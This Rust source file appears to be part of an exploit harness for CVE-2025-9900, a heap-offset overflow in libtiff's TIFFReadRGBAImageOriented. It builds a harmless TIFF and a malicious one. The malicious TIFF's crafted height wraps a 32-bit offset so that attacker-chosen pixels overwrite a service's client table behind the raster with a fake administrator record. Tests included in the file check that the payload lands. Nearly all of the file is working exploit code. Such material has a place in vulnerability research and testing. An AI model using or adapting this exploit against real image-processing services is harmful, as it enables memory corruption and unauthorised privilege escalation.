//! The pictures: a harmless one, and the one that attacks.
//!
//! CVE-2025-9900: `TIFFReadRGBAImageOriented` crops a picture higher than the raster by starting at
//! `raster + (raster height - picture height) * raster width`, computed in 32 bits and counted in
//! pixels. A height of `raster height + 2^25 - m` makes that `raster + 128 * m` pixels, m rows
//! *behind* the start of the raster, for any m below 2^25: 16 GiB. There the picture's pixels, chosen
//! by whoever made it, are written.

use anyhow::{Context, Result, ensure};

/// Width and height of the service's raster, in pixels of four bytes.
const SIDE: u32 = 128;
/// Bytes in a row of the raster.
const ROW: u64 = 4 * SIDE as u64;
/// Rows in the attacking picture's one strip; more than cover the attacked client's record.
const EVIL_ROWS: u32 = 34;
/// `ROLE_ADMIN` of the service.
const ROLE_ADMIN: u32 = 0x4144_4d4e;
/// Bytes of a record in the service's client table.
const RECORD: usize = 64;

/// A picture of the raster's size.
pub(super) fn good() -> Vec<u8> {
    let pixel = |x: u32, y: u32| [(7 * x + 3 * y) as u8; 4];
    let pixels = (0..SIDE).flat_map(|y| (0..SIDE).flat_map(move |x| pixel(x, y))).collect();
    encode(&Picture { height: SIDE, rows_per_strip: SIDE, pixels })
}

/// A picture whose pixels are client records, and land on the client table that begins `distance`
/// bytes behind the raster.
///
/// # Errors
/// The table is out of this vulnerability's reach.
pub(super) fn evil(distance: i64) -> Result<Vec<u8>> {
    let distance = u64::try_from(distance).context("the client table is in front of the raster")?;
    let rows = distance / ROW;
    let reach = 1 << 25;
    ensure!(rows < reach, "the client table is {distance} bytes behind the raster, out of reach");
    let height = u64::from(SIDE) + reach - rows;
    let mut pixels = vec![0; usize::try_from(distance % ROW)?];
    let size = usize::try_from(u64::from(EVIL_ROWS) * ROW)?;
    while pixels.len() < size {
        pixels.extend(record());
    }
    pixels.truncate(size);
    let height = u32::try_from(height)?;
    Ok(encode(&Picture { height, rows_per_strip: EVIL_ROWS, pixels }))
}

/// A client who is an administrator.
fn record() -> [u8; RECORD] {
    let mut record = [0; RECORD];
    record[..4].copy_from_slice(b"evil");
    record[16..20].copy_from_slice(&ROLE_ADMIN.to_le_bytes());
    record
}

/// An uncompressed RGBA picture, [`SIDE`] pixels wide, with one strip.
struct Picture {
    height: u32,
    rows_per_strip: u32,
    pixels: Vec<u8>,
}

/// Types of values (TIFF 6.0, section 2).
const SHORT: u16 = 3;
const LONG: u16 = 4;

/// The file, little-endian: header, the one directory, four bit depths, pixels (TIFF 6.0).
fn encode(picture: &Picture) -> Vec<u8> {
    const HEADER: usize = 8;
    const ENTRIES: usize = 12;
    const DEPTHS: usize = HEADER + 2 + 12 * ENTRIES + 4;
    const PIXELS: usize = DEPTHS + 8;
    let size = u32::try_from(picture.pixels.len()).expect("pictures are small");
    let entries: [(u16, u16, u32, u32); ENTRIES] = [
        (256, LONG, 1, SIDE),                   // ImageWidth
        (257, LONG, 1, picture.height),         // ImageLength
        (258, SHORT, 4, DEPTHS as u32),         // BitsPerSample
        (259, SHORT, 1, 1),                     // Compression: none
        (262, SHORT, 1, 2),                     // PhotometricInterpretation: RGB
        (273, LONG, 1, PIXELS as u32),          // StripOffsets
        (274, SHORT, 1, 4),                     // Orientation: begins at the bottom left
        (277, SHORT, 1, 4),                     // SamplesPerPixel
        (278, LONG, 1, picture.rows_per_strip), // RowsPerStrip
        (279, LONG, 1, size),                   // StripByteCounts
        (284, SHORT, 1, 1),                     // PlanarConfiguration: chunky
        (338, SHORT, 1, 1),                     // ExtraSamples: associated alpha
    ];
    let mut file = b"II*\0".to_vec();
    file.extend((HEADER as u32).to_le_bytes());
    file.extend((ENTRIES as u16).to_le_bytes());
    for (tag, kind, count, value) in entries {
        file.extend(tag.to_le_bytes());
        file.extend(kind.to_le_bytes());
        file.extend(count.to_le_bytes());
        // A value that is shorter than its field is at the beginning of it.
        file.extend(value.to_le_bytes());
    }
    file.extend(0_u32.to_le_bytes());
    file.extend([8_u16; 4].iter().flat_map(|depth| depth.to_le_bytes()));
    file.extend(&picture.pixels);
    file
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The field of the directory with this tag.
    fn field(file: &[u8], tag: u16) -> u32 {
        let entry = file[10..].chunks(12).find(|entry| entry[..2] == tag.to_le_bytes()).unwrap();
        u32::from_le_bytes(entry[8..12].try_into().unwrap())
    }

    #[test]
    fn the_height_makes_the_offset() {
        for (distance, phase) in [(65552, 16), (512 << 20, 0)] {
            let file = evil(distance).unwrap();
            let height = field(&file, 257);
            let pixels = SIDE.wrapping_sub(height).wrapping_mul(SIDE);
            assert_eq!(i64::from(pixels) * 4 + phase, distance);
            let pixels = &file[field(&file, 273) as usize..];
            assert_eq!(pixels.len(), field(&file, 279) as usize);
            let phase = usize::try_from(phase).unwrap();
            assert_eq!(pixels[phase..phase + RECORD], record());
        }
    }

    #[test]
    fn what_is_out_of_reach_is_refused() {
        assert!(evil(-64).is_err());
        assert!(evil(16 << 30).unwrap_err().to_string().contains("out of reach"));
        evil((16 << 30) - 64).unwrap();
    }
}
